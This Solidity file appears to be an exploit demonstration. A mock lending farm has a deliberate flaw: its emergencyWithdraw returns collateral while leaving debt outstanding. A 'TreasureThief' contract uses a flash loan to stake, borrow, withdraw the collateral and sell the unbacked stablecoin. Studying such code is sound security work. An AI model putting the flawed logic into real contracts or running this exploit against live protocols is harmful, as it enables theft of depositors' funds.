// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {FlashLender, IBorrower, Pool} from "../props/Markets.sol";
import {Token} from "../props/Tokens.sol";

/// A share for each dollar that is put in.
contract AssetPool is Token {
    Token public immutable asset;

    event Deposited(address indexed who, uint256 amount);
    event Withdrawn(address indexed who, uint256 amount);

    constructor(Token asset_) Token("LP-USDC", 6) {
        asset = asset_;
    }

    function deposit(uint256 amount) external {
        asset.transferFrom(msg.sender, address(this), amount);
        _mint(msg.sender, amount);
        emit Deposited(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        _burn(msg.sender, amount);
        asset.transfer(msg.sender, amount);
        emit Withdrawn(msg.sender, amount);
    }
}

/// A farm of shares that may be borrowed on, in a dollar of its own. In an emergency it asks whether an account is
/// solvent, not whether it will be.
contract TreasureFarm {
    AssetPool public immutable lp;
    Token public immutable usp = new Token("USP", 18);
    mapping(address => uint256) public staked;
    mapping(address => uint256) public debt;
    uint256 public totalDebt;
    uint256 public totalStaked;

    event Deposit(address indexed user, uint256 amount);
    event Withdraw(address indexed user, uint256 amount);
    event EmergencyWithdraw(address indexed user, uint256 amount);
    event Borrow(address indexed user, uint256 amount);
    event Repay(address indexed user, uint256 amount);

    constructor(AssetPool lp_) {
        lp = lp_;
    }

    function deposit(uint256 amount) external {
        lp.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        totalStaked += amount;
        emit Deposit(msg.sender, amount);
    }

    function borrow(uint256 amount) external {
        debt[msg.sender] += amount;
        totalDebt += amount;
        require(solvent(msg.sender), "insolvent");
        usp.mint(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        usp.transferFrom(msg.sender, address(this), amount);
        usp.burn(amount);
        debt[msg.sender] -= amount;
        totalDebt -= amount;
        emit Repay(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        staked[msg.sender] -= amount;
        totalStaked -= amount;
        require(solvent(msg.sender), "insolvent");
        lp.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function emergencyWithdraw() external {
        require(solvent(msg.sender), "insolvent");
        uint256 amount = staked[msg.sender];
        staked[msg.sender] = 0;
        totalStaked -= amount;
        lp.transfer(msg.sender, amount);
        emit EmergencyWithdraw(msg.sender, amount);
    }

    function solvent(address who) public view returns (bool) {
        return debt[who] <= staked[who] * 1e12 * 85 / 100;
    }

    /// Debts beyond what is staked for them, over all accounts.
    function unsecured() external view returns (uint256) {
        uint256 secured = totalStaked * 1e12;
        return totalDebt > secured ? totalDebt - secured : 0;
    }
}

/// Stakes borrowed money, borrows on it, and takes it back in an emergency of its own making.
contract TreasureThief {
    struct Job {
        TreasureFarm farm;
        Pool market;
        uint256 amount;
        address payee;
    }

    function run(FlashLender lender, Job calldata job) external {
        Token asset = job.farm.lp().asset();
        lender.flashLoan(IBorrower(address(this)), asset, job.amount, abi.encode(job));
        Token usp = job.farm.usp();
        usp.approve(address(job.market), type(uint256).max);
        asset.transfer(job.payee, asset.balanceOf(address(this)));
        usp.transfer(job.payee, usp.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token asset, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        Job memory job = abi.decode(data, (Job));
        (TreasureFarm farm, AssetPool lp) = (job.farm, job.farm.lp());
        asset.approve(address(lp), amount);
        lp.deposit(amount);
        lp.approve(address(farm), amount);
        farm.deposit(amount);
        uint256 loan = amount * 1e12 * 85 / 100 - farm.debt(address(this));
        farm.borrow(loan);
        farm.emergencyWithdraw();
        lp.withdraw(amount);
        farm.usp().approve(address(job.market), loan);
        job.market.sell(farm.usp(), loan / 2, address(this));
        asset.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// Ends a position: dollars are borrowed to buy back the debt, the shares come out, and the dollars are repaid.
contract TreasureExit {
    address private immutable owner = msg.sender;

    function open(TreasureFarm farm, uint256 amount, uint256 loan) external {
        Token asset = farm.lp().asset();
        asset.transferFrom(owner, address(this), amount);
        asset.approve(address(farm.lp()), amount);
        farm.lp().deposit(amount);
        farm.lp().approve(address(farm), amount);
        farm.deposit(amount);
        farm.borrow(loan);
        farm.usp().transfer(owner, loan);
    }

    function close(FlashLender lender, TreasureFarm farm, Pool market, uint256 amount) external {
        require(msg.sender == owner, "not the owner");
        Token asset = farm.lp().asset();
        lender.flashLoan(IBorrower(address(this)), asset, amount, abi.encode(farm, market));
        asset.transfer(owner, asset.balanceOf(address(this)));
    }

    function onFlashLoan(address, Token asset, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        (TreasureFarm farm, Pool market) = abi.decode(data, (TreasureFarm, Pool));
        asset.approve(address(market), amount);
        market.sell(asset, amount, address(this));
        Token usp = farm.usp();
        uint256 owed = farm.debt(address(this));
        usp.approve(address(farm), owed);
        farm.repay(owed);
        usp.transfer(owner, usp.balanceOf(address(this)));
        farm.emergencyWithdraw();
        farm.lp().withdraw(farm.lp().balanceOf(address(this)));
        asset.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
